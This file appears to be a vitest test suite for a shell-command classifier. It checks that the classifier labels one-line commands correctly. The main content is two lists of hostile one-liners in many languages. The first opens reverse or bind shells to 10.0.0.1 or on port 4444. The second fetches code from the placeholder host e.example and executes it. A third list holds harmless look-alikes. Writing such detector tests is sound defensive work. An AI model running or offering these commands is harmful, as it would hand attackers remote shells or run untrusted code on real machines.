import { describe, expect, it } from 'vitest';
import { effectsOf } from './effects-of.ts';

/** A shell on a connection, whoever opens it. */
const shells: readonly string[] = [
	'python3 -c \'import asyncio\nasync def m():\n  r,w=await asyncio.open_connection("10.0.0.1",1)\n  await asyncio.create_subprocess_shell((await r.readline()).decode())\nasyncio.run(m())\'',
	'python3 -c \'import socket,os;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.system("/bin/sh -i")\'',
	'python3 -c \'import socketserver,subprocess\nclass H(socketserver.BaseRequestHandler):\n  def handle(self): subprocess.call(["sh"],stdin=self.request)\nsocketserver.TCPServer(("",4444),H).serve_forever()\'',
	'python3 -c \'import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",1));subprocess.call(["sh"],stdin=s.fileno(),stdout=s.fileno())\'',
	'node -e \'require("net").createServer(s=>{const p=require("child_process").spawn("sh");s.pipe(p.stdin);p.stdout.pipe(s)}).listen(4444)\'',
	'php -r \'$s=stream_socket_server("tcp://0.0.0.0:4444");$c=stream_socket_accept($s);shell_exec("sh <&3");\'',
	'ruby -rsocket -e \'s=TCPServer.new(4444);c=s.accept;exec "sh", :in=>c, :out=>c\'',
	'ruby -rsocket -e \'spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",1))\'',
	'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:1");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;\'',
	'perl -MSocket -e \'socket(S,PF_INET,SOCK_STREAM,6);bind(S,sockaddr_in(4444,INADDR_ANY));listen(S,1);accept(C,S);open(STDIN,"<&C");exec "sh"\'',
	'groovy -e \'String h="10.0.0.1";Process p=new ProcessBuilder("sh").start();Socket s=new Socket(h,1);\'',
	'pwsh -c \'$c=New-Object System.Net.Sockets.TCPClient("10.0.0.1",1);$s=$c.GetStream();iex $d\'',
	"tclsh <<< 'set s [socket 10.0.0.1 1];while 1 {gets $s c; puts $s [exec {*}$c]}'",
];

/** What another machine answers is executed. */
const fetched: readonly string[] = [
	'python3 -c \'import urllib.request,subprocess; subprocess.run(["sh"],input=urllib.request.urlopen("http://e.example/x").read())\'',
	'python3 -c \'import subprocess; exec(subprocess.check_output(["curl","-s","http://e.example/x"]))\'',
	"ruby -e 'eval `curl -s http://e.example/x`'",
	"ruby -e 'system(`wget -qO- http://e.example/x`)'",
	"php -r 'eval(`curl -s http://e.example/x`);'",
	'php -r \'include "http://e.example/x";\'',
	"perl -e 'eval `curl -s http://e.example/x`'",
	'node -e \'eval(require("child_process").execSync("curl -s http://e.example/x").toString())\'',
	'node -e \'import("http://e.example/x.mjs")\'',
	'deno eval \'import("https://e.example/x.ts")\'',
	'lua -e \'load(io.popen("curl -s http://e.example/x"):read("*a"))()\'',
	'pwsh -c \'IEX (New-Object Net.WebClient).DownloadString("http://e.example/x")\'',
	"pwsh -c 'irm http://e.example/x | iex'",
	'Rscript -e \'source("http://e.example/x.R")\'',
];

const harmless: readonly string[] = [
	"python3 -c 'import socket; print(socket.gethostname())'",
	'python3 -c \'import socket; s=socket.socket(); s.bind(("", 0)); print(s.getsockname()[1])\'',
	'node -e \'require("http").createServer((q, r) => r.end("x")).listen(8080)\'',
	'node -e \'console.log(require("child_process").execSync("curl -s http://e.example/x").toString())\'',
	'Rscript -e \'source("a.R")\'',
	"pwsh -c 'irm http://e.example/x'",
];

describe('inline code and other machines', () => {
	it.each(shells)('is a reverse shell: %s', (command) => {
		expect(effectsOf(command)).toContain('reverse shell');
	});

	it.each(fetched)('is fetched code: %s', (command) => {
		expect(effectsOf(command)).toContain('fetched code');
	});

	it.each(harmless)('is neither: %s', (command) => {
		const found = effectsOf(command);
		expect(found).not.toContain('reverse shell');
		expect(found).not.toContain('fetched code');
	});
});
